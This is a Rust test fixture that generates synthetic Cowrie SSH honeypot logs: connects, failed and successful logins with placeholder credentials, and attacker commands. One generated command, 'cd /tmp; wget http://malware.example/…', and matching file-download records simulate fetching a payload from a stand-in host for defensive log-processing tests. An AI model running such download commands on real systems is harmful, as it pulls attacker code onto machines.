//! What a few honeypots see: as many records as a test wants.

/// So many Cowrie records, one a line, no two alike: sessions of ten, of attackers and passwords that come back.
pub(crate) fn cowrie(records: usize) -> String {
    (0..records).map(|number| record(number / 10, number % 10) + "\n").collect()
}

fn record(session: usize, step: usize) -> String {
    let kind = [
        ("session.connect", r#""src_port": 40001, "dst_ip": "198.51.100.5", "dst_port": 2222"#.to_owned()),
        ("client.version", format!(r#""version": "SSH-2.0-Go{}""#, session % 3)),
        ("login.failed", credential(session)),
        ("login.failed", credential(session + 1)),
        ("login.failed", r#""username": "root""#.to_owned()),
        ("login.success", credential(session + 2)),
        ("command.input", r#""input": "uname -a""#.to_owned()),
        ("command.input", format!(r#""input": "cd /tmp; wget http://malware.example/{}""#, session % 40)),
        ("session.file_download", download(session)),
        ("session.closed", format!(r#""duration": "{}.5""#, session % 60)),
    ];
    let (kind, rest) = &kind[step];
    let (hour, minute, attacker) = (session / 60 % 24, session % 60, session % 200);
    format!(
        r#"{{"eventid": "cowrie.{kind}", "timestamp": "2025-11-{day:02}T{hour:02}:{minute:02}:{step:02}.250000Z", "#,
        day = 1 + session / 1440 % 28,
    ) + &format!(
        r#""session": "5f1c{session:08x}", "src_ip": "192.0.2.{attacker}", "sensor": "sensor-0{}", {rest}}}"#,
        session % 4
    )
}

fn credential(n: usize) -> String {
    format!(r#""username": "user{}", "password": "secret {}""#, n % 7, n % 50)
}

fn download(n: usize) -> String {
    format!(r#""url": "http://malware.example/{}", "shasum": "{:064x}""#, n % 40, n % 40)
}
